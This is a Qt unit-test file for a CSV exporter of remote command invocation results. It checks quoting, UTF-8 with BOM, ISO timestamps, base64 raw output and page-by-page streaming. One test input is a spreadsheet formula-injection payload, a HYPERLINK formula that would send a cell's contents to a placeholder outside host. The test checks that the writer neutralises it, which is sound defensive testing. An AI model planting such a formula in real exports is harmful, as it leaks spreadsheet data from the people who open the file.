#include "export/resultcsv.h"

#include <QBuffer>
#include <QTest>
#include <QTimeZone>

using namespace ib;

Q_DECLARE_METATYPE(ib::CsvOptions)

namespace {

const QByteArray fieldCase8Output =
    QByteArrayLiteral("=HYPERLINK(\"http://example.invalid/?q=\"&A1,\"ok\")\r\nsecond line\r\n");
const QByteArray fieldCase9Output =
    QByteArrayLiteral("line1\r\nline2 \"quoted\", comma") + QStringLiteral("执行失败").toUtf8();

InvocationResult finishedResult()
{
    InvocationResult result;
    result.invokeId = QStringLiteral("t-hz0jdfwd9f0001");
    result.instanceId = QStringLiteral("i-bp1a2b3c4d5e6f7g8h");
    result.commandId = QStringLiteral("c-hz0jdfwcsr0002");
    result.invocationStatus = QStringLiteral("Failed");
    result.invokeRecordStatus = QStringLiteral("Finished");
    result.outputPresent = true;
    result.exitCode = 1;
    result.errorCode = QStringLiteral("ExitCodeNonzero");
    result.startTime = QDateTime(QDate(2024, 5, 6), QTime(7, 8, 9), Qt::UTC);
    result.finishedTime = QDateTime(QDate(2024, 5, 6), QTime(7, 9, 10), Qt::UTC);
    result.repeats = 1;
    return result;
}

QByteArray written(const QList<InvocationResult> &results, const QList<ResultField> &fields,
                   const CsvOptions &options = {})
{
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    if (!writeResultsCsv(buffer, results, fields, options))
        return QByteArrayLiteral("write failed");
    return buffer.data();
}

} // namespace

class TestCsvResultWriter : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void fieldCases_data();
    void fieldCases();
    void defaultColumnsAsTheServiceSpellsThem();
    void absentValuesAreEmptyCells();
    void timesAreIso8601Utc();
    void rawOutputIsBase64();
    void headerAloneWhenNothingArrives();
    void streamsPageByPage();
    void fieldNamesRoundTrip();
};

void TestCsvResultWriter::fieldCases_data()
{
    QTest::addColumn<QByteArray>("output");
    QTest::addColumn<QString>("errorInfo");
    QTest::addColumn<qint64>("exitCode");
    QTest::addColumn<CsvOptions>("options");
    QTest::addColumn<QByteArray>("record");

    CsvOptions withBom;
    withBom.byteOrderMark = true;
    const QByteArray header = "ExitCode,ErrorInfo,Output\r\n";

    QTest::newRow("8: formulas cannot run, -1 stays a number")
        << fieldCase8Output << QStringLiteral("-1+1") << qint64(-1) << CsvOptions()
        << header + "-1,'-1+1,\"'=HYPERLINK(\"\"http://example.invalid/?q=\"\"&A1,\"\"ok\"\")\n"
                    "second line\n\"\r\n";
    QTest::newRow("9: one field, quotes doubled, UTF-8 with BOM")
        << fieldCase9Output << QString() << qint64(1) << withBom
        << "\xEF\xBB\xBF" + header + "1,,\"line1\nline2 \"\"quoted\"\", comma" +
               QStringLiteral("执行失败").toUtf8() + "\"\r\n";
    QTest::newRow("9: without BOM") << fieldCase9Output << QString() << qint64(1) << CsvOptions()
                                    << header + "1,,\"line1\nline2 \"\"quoted\"\", comma" +
                                           QStringLiteral("执行失败").toUtf8() + "\"\r\n";
}

void TestCsvResultWriter::fieldCases()
{
    QFETCH(QByteArray, output);
    QFETCH(QString, errorInfo);
    QFETCH(qint64, exitCode);
    QFETCH(CsvOptions, options);
    QFETCH(QByteArray, record);

    InvocationResult result = finishedResult();
    result.output = output;
    result.errorInfo = errorInfo;
    result.exitCode = exitCode;

    const QList<ResultField> fields{ResultField::ExitCode, ResultField::ErrorInfo,
                                    ResultField::Output};
    QCOMPARE(written({result}, fields, options), record);
}

void TestCsvResultWriter::defaultColumnsAsTheServiceSpellsThem()
{
    InvocationResult result = finishedResult();
    result.output = "done\n";
    result.dropped = 31000;
    result.ossOutputUri = QStringLiteral("oss://bucket/out.txt");

    QCOMPARE(written({result}, defaultResultFields()),
             QByteArray("InvokeId,InstanceId,CommandId,InvocationStatus,InvokeRecordStatus,"
                        "ExitCode,ErrorCode,ErrorInfo,StartTime,FinishedTime,Repeats,Dropped,"
                        "OssOutputUri,Output\r\n"
                        "t-hz0jdfwd9f0001,i-bp1a2b3c4d5e6f7g8h,c-hz0jdfwcsr0002,Failed,Finished,"
                        "1,ExitCodeNonzero,,2024-05-06T07:08:09Z,2024-05-06T07:09:10Z,1,31000,"
                        "oss://bucket/out.txt,\"done\n\"\r\n"));
}

void TestCsvResultWriter::absentValuesAreEmptyCells()
{
    InvocationResult running;
    running.invokeId = QStringLiteral("t-1");
    running.invocationStatus = QStringLiteral("Running");

    const QList<ResultField> fields{ResultField::InvocationStatus, ResultField::ExitCode,
                                    ResultField::FinishedTime, ResultField::Output};
    QCOMPARE(written({running}, fields),
             QByteArray("InvocationStatus,ExitCode,FinishedTime,Output\r\nRunning,,,\r\n"));
}

void TestCsvResultWriter::timesAreIso8601Utc()
{
    InvocationResult result = finishedResult();
    result.startTime = QDateTime(QDate(2024, 5, 6), QTime(15, 8, 9), QTimeZone(8 * 3600));

    QCOMPARE(written({result}, {ResultField::StartTime, ResultField::StopTime}),
             QByteArray("StartTime,StopTime\r\n2024-05-06T07:08:09Z,\r\n"));
}

void TestCsvResultWriter::rawOutputIsBase64()
{
    InvocationResult result = finishedResult();
    result.output = QByteArray::fromHex("C4E3BAC30D0A"); // GBK 你好 and CRLF

    CsvOptions raw;
    raw.rawOutput = true;
    QCOMPARE(written({result}, {ResultField::Output}, raw), QByteArray("Output\r\nxOO6ww0K\r\n"));
    QCOMPARE(written({result}, {ResultField::Output}),
             "Output\r\n\"" + QStringLiteral("你好").toUtf8() + "\n\"\r\n");
}

void TestCsvResultWriter::headerAloneWhenNothingArrives()
{
    QCOMPARE(written({}, {ResultField::InvokeId, ResultField::ExitCode}),
             QByteArray("InvokeId,ExitCode\r\n"));
}

void TestCsvResultWriter::streamsPageByPage()
{
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    CsvResultWriter writer(&buffer, {ResultField::InvokeId, ResultField::Repeats}, CsvOptions());

    InvocationResult first = finishedResult();
    first.invokeId = QStringLiteral("t-1");
    InvocationResult second = finishedResult();
    second.invokeId = QStringLiteral("t-2");
    second.repeats = 7;

    QVERIFY(writer.writeResults({first}));
    QVERIFY(writer.writeResults({}));
    QVERIFY(writer.writeResults({second, first}));
    QVERIFY(writer.finish());

    QCOMPARE(writer.resultsWritten(), 3);
    QCOMPARE(buffer.data(), QByteArray("InvokeId,Repeats\r\nt-1,1\r\nt-2,7\r\nt-1,1\r\n"));
}

void TestCsvResultWriter::fieldNamesRoundTrip()
{
    for (const ResultField field : allResultFields()) {
        QCOMPARE(resultFieldFromName(resultFieldName(field)), field);
        QCOMPARE(resultFieldFromName(resultFieldName(field).toLower()), field);
    }
    QCOMPARE(resultFieldName(ResultField::OssOutputUri), QStringLiteral("OssOutputUri"));
    QVERIFY(!resultFieldFromName(u"Exit code"));
}

QTEST_GUILESS_MAIN(TestCsvResultWriter)
#include "test_csvresultwriter.moc"
